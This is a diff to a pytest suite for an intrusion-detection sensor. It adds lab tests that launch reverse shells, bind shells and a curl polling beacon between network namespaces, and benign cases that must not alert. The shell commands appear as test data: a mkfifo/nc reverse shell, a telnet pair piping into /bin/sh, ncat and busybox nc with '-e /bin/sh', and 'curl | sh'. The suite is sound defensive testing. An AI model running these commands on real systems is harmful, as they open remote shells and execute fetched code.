@@ -15,6 +15,7 @@ import time
 import uuid
 
 import pytest
+from corpus import record_case
 
 from agent.events import Connect, Exec
 
@@ -51,6 +52,12 @@ def tagged(command: str) -> tuple[str, str]:
     return f"{command} # {token}", token
 
 
+def case_name() -> str:
+    """This test's name, as a corpus file name."""
+    name = os.environ.get("PYTEST_CURRENT_TEST", "case").split("::")[-1].split(" ")[0]
+    return "".join(c if c.isalnum() or c in "-_" else "_" for c in name).strip("_")
+
+
 def mine(alerts: list[dict], token: str) -> list[dict]:
     return [a for a in alerts if token in json.dumps([a["process"].get("args"), a["chainwatch"]["ancestry"]])]
 
@@ -61,13 +68,14 @@ def reverse(sensorlab, netlab, command: str, *, family: int = 4, signal: str = "
     port = next(_ports)
     host = netlab.attacker_ip6 if family == 6 else netlab.attacker_ip4
     listener = netlab.listen_tcp(netlab.attacker_ns, port, family=family, payload=payload, duration=timeout)
-    mark = sensorlab.alert_mark()
+    mark, emark = sensorlab.alert_mark(), sensorlab.mark()
     command, token = tagged(command.format(host=host, port=port))
     netlab.spawn(netlab.victim_ns, ["timeout", str(timeout), "bash", "-c", command],
                  stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
     received = listener.wait(timeout=timeout + 5)
     assert expect in received, received
     alerts = mine(sensorlab.alerts_since(mark, settle=1.5), token)
+    record_case(sensorlab, case_name(), emark, token, {"signal": signal, "port": port})
     groups = incidents(c2_alerts(alerts))
     assert len(groups) == 1, [(a["rule"]["name"], a["event"]["reason"]) for a in alerts]
     lines = next(iter(groups.values()))
@@ -118,6 +126,29 @@ def test_fifo_on_shell_stdin_relay(sensorlab, netlab, tmp_path) -> None:
     f = _fifo(tmp_path)
     reverse(sensorlab, netlab, f"rm -f {f}; mkfifo {f}; /bin/sh -i < {f} 2>&1 | nc.openbsd -q 1 {{host}} {{port}} "
             f"> {f}")
+
+
+def test_telnet_pair(sensorlab, netlab) -> None:
+    """`telnet H P1 | sh | telnet H P2`: commands from one connection, output to the other (telnet quits at
+    EOF on its stdin, so the first one's stdin is held open as an attacker's terminal would be)."""
+    need("telnet")
+    out_port = next(_ports)
+    sink = netlab.listen_tcp(netlab.attacker_ns, out_port, duration=15)
+    port = next(_ports)
+    host = netlab.attacker_ip4
+    listener = netlab.listen_tcp(netlab.attacker_ns, port, payload=PAYLOAD, duration=10)
+    mark, emark = sensorlab.alert_mark(), sensorlab.mark()
+    command, token = tagged(f"sleep 6 | telnet {host} {port} 2>/dev/null | /bin/sh 2>&1 | telnet {host} {out_port} "
+                            ">/dev/null 2>&1")
+    netlab.spawn(netlab.victim_ns, ["timeout", "10", "bash", "-c", command],
+                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    assert b"cw-42" in sink.wait(timeout=15)
+    listener.wait(timeout=15)
+    groups = incidents(c2_alerts(mine(sensorlab.alerts_since(mark, settle=1.5), token)))
+    assert len(groups) == 1
+    hit = [a for a in next(iter(groups.values())) if "reverse_shell" in a["chainwatch"]["signals"]]
+    assert hit and hit[-1]["destination"] == {"ip": host, "port": port}  # where the commands come from
+    record_case(sensorlab, case_name(), emark, token, {"signal": "reverse_shell", "port": port})
 
 
 NODE = ("node -e '(function(){{var net=require(\"net\"),cp=require(\"child_process\"),sh=cp.spawn(\"/bin/sh\",[]);"
@@ -175,7 +206,7 @@ def bind(sensorlab, netlab, command: str, *, family: int = 4, timeout: float = 1
     """Start a bind shell ({port}) in the victim; the attacker connects and runs the payload."""
     port = next(_ports)
     victim = netlab.victim_ip6 if family == 6 else netlab.victim_ip4
-    mark = sensorlab.alert_mark()
+    mark, emark = sensorlab.alert_mark(), sensorlab.mark()
     command, token = tagged(command.format(port=port))
     netlab.spawn(netlab.victim_ns, ["timeout", str(timeout), "bash", "-c", command],
                  stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
@@ -188,6 +219,7 @@ def bind(sensorlab, netlab, command: str, *, family: int = 4, timeout: float = 1
             time.sleep(0.3)
     assert b"cw-42" in got
     alerts = mine(sensorlab.alerts_since(mark, settle=1.5), token)
+    record_case(sensorlab, case_name(), emark, token, {"signal": "bind_shell", "port": port})
     groups = incidents(c2_alerts(alerts))
     assert len(groups) == 1, [(a["rule"]["name"], a["event"]["reason"]) for a in alerts]
     hit = [a for a in next(iter(groups.values())) if "bind_shell" in a["chainwatch"]["signals"]]
@@ -235,6 +267,12 @@ def test_bind_busybox_nc(sensorlab, netlab) -> None:
     bind(sensorlab, netlab, "busybox nc -l -p {port} -e /bin/sh")
 
 
+def test_bind_ncat_ipv6(sensorlab, netlab) -> None:
+    """ncat -6 -l -e /bin/sh over IPv6."""
+    need("ncat")
+    bind(sensorlab, netlab, "ncat -6 -l -p {port} -e /bin/sh", family=6)
+
+
 # ------------------------------------------------------------------ beacon
 
 def test_curl_polling_beacon(sensorlab, netlab) -> None:
@@ -247,12 +285,13 @@ def test_curl_polling_beacon(sensorlab, netlab) -> None:
         "s.wfile.write(b)\n def log_message(s,*a): pass\n"
         f"h.HTTPServer(('{netlab.attacker_ip4}',{port}),H).serve_forever()")])
     time.sleep(0.8)
-    mark = sensorlab.alert_mark()
+    mark, emark = sensorlab.alert_mark(), sensorlab.mark()
     command, token = tagged(f"for i in 1 2 3; do curl -s -m 3 http://{netlab.attacker_ip4}:{port}/c | sh; sleep 1; "
                             "done")
     netlab.run(netlab.victim_ns, ["timeout", "8", "bash", "-c", command], timeout=15)
     www.kill()
     alerts = mine(sensorlab.alerts_since(mark, settle=1.5), token)
+    record_case(sensorlab, case_name(), emark, token, {"signal": "c2_beacon", "port": port})
     beacons = [a for a in alerts if "c2_beacon" in a["chainwatch"]["signals"]]
     assert len({a["chainwatch"]["incident"]["id"] for a in beacons}) == 1, alerts
     assert beacons[-1]["destination"] == {"ip": netlab.attacker_ip4, "port": port}
@@ -278,7 +317,9 @@ def benign(sensorlab, netlab, command: str, *, exe: str, port: int | None = None
     seen_connect = sensorlab.wait_for(lambda e: isinstance(e, Connect) and e.dport == port, since=mark, timeout=10)
     assert seen_exec, f"the sensor never saw {exe} exec"
     assert seen_connect, f"the sensor never saw the connect to port {port}"
-    return mine(sensorlab.alerts_since(amark, settle=1.0), token)
+    alerts = mine(sensorlab.alerts_since(amark, settle=1.0), token)
+    record_case(sensorlab, case_name(), mark, token, {"quiet": True})
+    return alerts
 
 
 def quiet(alerts: list[dict]) -> None:
@@ -288,6 +329,13 @@ def quiet(alerts: list[dict]) -> None:
     for a in alerts:  # notices never call themselves what they are not
         text = (a["rule"]["name"] + " " + a["event"]["reason"]).lower()
         assert "reverse shell" not in text and "c2" not in text and "bind shell" not in text
+
+
+def test_benign_busybox_wget(sensorlab, netlab) -> None:
+    """`busybox wget` is wget, not a shell (Debian's busybox 1.35 wget crashes with -T: timeout bounds it)."""
+    need("busybox")
+    quiet(benign(sensorlab, netlab, "timeout 5 busybox wget -q -O /dev/null http://{host}:{port}/; true",
+                 exe="busybox", server=[sys.executable, "-m", "http.server", "--bind", "{host}", "{port}"]))
 
 
 def test_benign_openssl_certificate_check_pipe(sensorlab, netlab) -> None:
